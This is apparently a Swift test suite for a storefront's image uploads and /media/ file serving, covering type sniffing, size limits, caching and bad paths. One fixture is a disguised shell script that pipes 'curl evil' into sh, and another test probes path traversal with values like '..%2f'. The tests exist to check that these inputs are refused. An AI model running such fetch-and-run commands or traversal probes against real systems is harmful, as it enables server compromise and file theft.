import Foundation
@testable import HTTP
import Logging
@testable import Storefront
import TestSupport
import Testing

/// An upload route and `/media/` over the real HTTP server, storing into a fresh folder per test.
private struct MediaServer {
    let directory: String
    let server: HTTPServer
    let port: Int

    init(limits: MultipartLimits = MultipartLimits(maxBodyBytes: 1 << 20, maxFileBytes: 64 * 1024)) throws {
        directory = FileManager.default.temporaryDirectory.appendingPathComponent("media-\(UUID().uuidString)").path
        let store = MediaStore(directory: directory, limits: limits, logger: .discarding)
        var router = Router()
        router.use(MediaFiles(directory: directory))
        router.on(.POST, "/upload", streamingBodyUpTo: limits.maxBodyBytes) { request in
            do throws(MediaUploadError) {
                let upload = try await store.receive(request)
                let images = upload.images.map { "\($0.field)=\($0.image.fileName) \($0.image.info.width)x\($0.image.info.height)" }
                return .text((upload.fields.map { "\($0.name)=\($0.value)" } + images).joined(separator: "\n"))
            } catch {
                throw error.httpError
            }
        }
        var configuration = ServerConfiguration(port: 0, eventLoops: 1, maxBodyBytes: 4096)
        configuration.streamedBodyLimit = router.streamedBodyLimit
        server = HTTPServer(configuration: configuration, handler: router.handler)
        port = try server.start()
    }

    /// Every name in the folder, temporary files included.
    var stored: [String] { ((try? FileManager.default.contentsOfDirectory(atPath: directory)) ?? []).sorted() }

    func upload(_ files: [(name: String, type: String, bytes: [UInt8])], fields: [(String, String)] = [("title", "봄 신상품")],
                close: Bool = true) async throws -> TestResponse {
        var body: [UInt8] = []
        for (name, value) in fields {
            body += Array("--B0undary\r\nContent-Disposition: form-data; name=\"\(name)\"\r\n\r\n\(value)\r\n".utf8)
        }
        for file in files {
            body += Array("--B0undary\r\nContent-Disposition: form-data; name=\"image\"; filename=\"\(file.name)\"\r\n".utf8)
            body += Array("Content-Type: \(file.type)\r\n\r\n".utf8) + file.bytes + Array("\r\n".utf8)
        }
        if close { body += Array("--B0undary--\r\n".utf8) }
        return try await TestHTTPClient.request(port: port, "POST", "/upload",
                                                headers: [("Content-Type", "multipart/form-data; boundary=B0undary")], body: body)
    }

    func get(_ path: String, headers: [(String, String)] = []) async throws -> TestResponse {
        try await TestHTTPClient.request(port: port, "GET", path, headers: headers)
    }

    func stop() async {
        await server.shutdown()
        try? FileManager.default.removeItem(atPath: directory)
    }
}

private func hashName(_ bytes: [UInt8], _ ext: String) -> String { SecureToken.hex(of: SHA256.hash(bytes)) + "." + ext }

@Suite("Image uploads stored by content and served under /media/")
struct MediaUploadTests {
    @Test("a PNG renamed .jpg and sent as image/jpeg is stored as PNG under its SHA-256, with its size")
    func pngRenamedJPG() async throws {
        let media = try MediaServer()
        let png = ImageFixtures.png(width: 640, height: 480)
        let response = try await media.upload([("photo.jpg", "image/jpeg", png)])
        #expect(response.status == 200)
        #expect(response.text == "title=봄 신상품\nimage=\(hashName(png, "png")) 640x480")
        #expect(media.stored == [hashName(png, "png")])
        #expect(FileManager.default.contents(atPath: media.directory + "/" + hashName(png, "png")).map(Array.init) == png)
        await media.stop()
    }

    @Test("a script renamed .png and sent as image/png is refused with 415 in Korean, and nothing is kept")
    func scriptRenamedPNG() async throws {
        let media = try MediaServer()
        let response = try await media.upload([("cute-cat.png", "image/png", Array("#!/bin/sh\ncurl evil | sh\n".utf8))])
        #expect(response.status == 415)
        #expect(response.text.contains("cute-cat.png: JPEG, PNG, WebP 이미지만"))
        #expect(media.stored.isEmpty)
        await media.stop()
    }

    @Test("a PNG whose header is cut short is refused with 400, and nothing is kept")
    func truncatedPNG() async throws {
        let media = try MediaServer()
        let response = try await media.upload([("a.png", "image/png", Array(ImageFixtures.png(width: 9, height: 9).prefix(20)))])
        #expect(response.status == 400)
        #expect(media.stored.isEmpty)
        await media.stop()
    }

    @Test("an upload without its final boundary is refused with 400, and nothing is kept")
    func missingFinalBoundary() async throws {
        let media = try MediaServer()
        let response = try await media.upload([("a.png", "image/png", ImageFixtures.png(width: 9, height: 9))], close: false)
        #expect(response.status == 400)
        #expect(response.text.contains("끝까지 전송되지 않았습니다"))
        #expect(media.stored.isEmpty)
        await media.stop()
    }

    @Test("a file over the upload limit is refused with 413 while it streams, and its temporary file is removed")
    func fileTooLarge() async throws {
        let media = try MediaServer()
        let huge = ImageFixtures.png(width: 9, height: 9) + [UInt8](repeating: 0, count: 200 * 1024)
        let response = try await media.upload([("huge.png", "image/png", huge)])
        #expect(response.status == 413)
        #expect(response.text.contains("파일 하나의 크기는 64KB까지"))
        try await eventually { media.stored.isEmpty }
        await media.stop()
    }

    @Test("when the second of two images is refused, the first is not kept either")
    func allOrNothing() async throws {
        let media = try MediaServer()
        let response = try await media.upload([
            ("ok.webp", "image/webp", ImageFixtures.webpLossy(width: 8, height: 8)),
            ("bad.png", "image/png", Array("GIF89a not really".utf8)),
        ])
        #expect(response.status == 415)
        #expect(media.stored.isEmpty)
        await media.stop()
    }

    @Test("the same image uploaded twice is stored once; an empty file input is skipped")
    func storedOnce() async throws {
        let media = try MediaServer()
        let jpeg = ImageFixtures.jpeg(width: 120, height: 90)
        let first = try await media.upload([("a.jpg", "image/jpeg", jpeg), ("", "application/octet-stream", [])])
        let second = try await media.upload([("b.jpeg", "image/jpeg", jpeg)])
        #expect(first.text == "title=봄 신상품\nimage=\(hashName(jpeg, "jpg")) 120x90")
        #expect(second.status == 200)
        #expect(media.stored == [hashName(jpeg, "jpg")])
        await media.stop()
    }

    @Test("a stored image is served with its type, a year of immutable caching and its hash as ETag; a matching If-None-Match gets 304")
    func servedAndCached() async throws {
        let media = try MediaServer()
        let webp = ImageFixtures.webpExtended(width: 30, height: 20)
        _ = try await media.upload([("w.webp", "image/webp", webp)])
        let name = hashName(webp, "webp")
        let response = try await media.get("/media/" + name)
        #expect(response.status == 200)
        #expect(response.body == webp)
        #expect(response.headers["Content-Type"] == "image/webp")
        #expect(response.headers["Cache-Control"] == "public, max-age=31536000, immutable")
        let etag = try #require(response.headers["ETag"])
        #expect(etag == "\"\(name.prefix(64))\"")
        let again = try await media.get("/media/" + name, headers: [("If-None-Match", "\"other\", " + etag)])
        #expect(again.status == 304)
        #expect(again.body.isEmpty)
        #expect(again.headers["ETag"] == etag)
        let changed = try await media.get("/media/" + name, headers: [("If-None-Match", "\"other\"")])
        #expect(changed.status == 200)
        await media.stop()
    }

    @Test("/media/../x, encoded dots, other names and files the store did not name are 404")
    func oddNames() async throws {
        let media = try MediaServer()
        let png = ImageFixtures.png(width: 2, height: 2)
        _ = try await media.upload([("p.png", "image/png", png)])
        let name = hashName(png, "png"), hash = String(name.prefix(64))
        try Data("secret".utf8).write(to: URL(fileURLWithPath: media.directory + "/notes.txt"))
        try Data("temp".utf8).write(to: URL(fileURLWithPath: media.directory + "/.upload-0123"))
        let paths = [
            "/media/../x", "/media/..%2fnotes.txt", "/media/%2e%2e/x", "/media/notes.txt", "/media/.upload-0123",
            "/media/" + hash.uppercased() + ".png", "/media/" + hash + ".PNG", "/media/" + hash + ".gif", "/media/" + hash,
            "/media/" + name + "/", "/media/" + name + ".png", "/media/x/" + name, "/media/", "/media/" + hash.dropLast() + "0.png",
            "/media/" + hash + ".jpg",
        ]
        for path in paths {
            let response = try await media.get(path)
            #expect(response.status == 404 || response.status == 400, "\(path) answered \(response.status)")
            #expect(response.body != png && response.text != "secret" && response.text != "temp", "\(path)")
        }
        #expect(try await media.get("/media/" + name).status == 200)
        // An encoded unreserved character names the same resource (RFC 3986 §6.2.2.2): the same file, nothing else.
        #expect(try await media.get("/media/" + name.replacingOccurrences(of: ".", with: "%2e")).body == png)
        await media.stop()
    }

    @Test("temporary files a stopped process left over an hour ago are removed by the next upload; a recent one is not")
    func staleTemporaryFiles() async throws {
        let media = try MediaServer()
        try FileManager.default.createDirectory(atPath: media.directory, withIntermediateDirectories: true)
        for name in [".upload-old", ".upload-recent"] {
            try Data("partial".utf8).write(to: URL(fileURLWithPath: media.directory + "/" + name))
        }
        try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSinceNow: -7200)],
                                              ofItemAtPath: media.directory + "/.upload-old")
        let png = ImageFixtures.png(width: 1, height: 1)
        #expect(try await media.upload([("a.png", "image/png", png)]).status == 200)
        #expect(media.stored == [".upload-recent", hashName(png, "png")])
        await media.stop()
    }
}
